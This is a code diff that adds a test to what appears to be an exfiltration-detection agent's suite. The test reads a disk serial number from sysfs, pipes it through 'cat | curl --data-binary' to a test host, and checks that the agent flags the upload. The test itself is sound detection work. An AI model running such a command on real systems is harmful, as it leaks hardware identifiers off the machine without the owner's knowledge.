@@ -270,6 +270,39 @@ def test_udev_entry_rewritten_after_start(host):
         expect_disk_serial_alert(agent.wait_alert(process__comm="curl"), disk, host)
 
 
+def sysfs_disk_serial():
+    """A block device's serial file in sysfs that holds one (virtio's /sys/block/vda/serial, a
+    SCSI or NVMe device's device/serial), or (None, None) after saying the test is skipped."""
+    for name in sorted(os.listdir("/sys/block")):
+        for rel in ("serial", "device/serial"):
+            path = os.path.join("/sys/block", name, rel)
+            try:
+                with open(path) as f:
+                    value = f.read().strip()
+            except OSError:
+                continue
+            if len(value) >= 4:
+                return path, value
+    print("  skipped: no block device here has a serial in sysfs")
+    return None, None
+
+
+def test_sysfs_disk_serial_piped_to_curl(host):
+    """A disk's serial from sysfs (what udev's rules import into ID_SERIAL), cat piped to curl,
+    under policies/default.yaml."""
+    path, value = sysfs_disk_serial()
+    if not path:
+        return
+    with Agent(DEFAULT) as agent:
+        r = subprocess.run(["sh", "-c", "cat %s | curl -s -o /dev/null --max-time 5 --data-binary @- "
+                            "http://%s:8080/sysfs" % (path, host.addr)], capture_output=True, timeout=30)
+        expect_eq(0, r.returncode, "the pipeline's status")
+        a = agent.wait_alert(process__comm="curl")
+    expect_eq("confirmed", a["confidence"], "confidence")
+    expect_eq(["disk-serial"], sorted({i["name"] for i in a["identifiers"]}), "identifiers")
+    expect_eq(host.addr, a["destination"]["addr"], "destination.addr")
+
+
 class FakeModem:
     """A modem on a pty pair: answers AT commands written to the slave, as a real one would."""
 
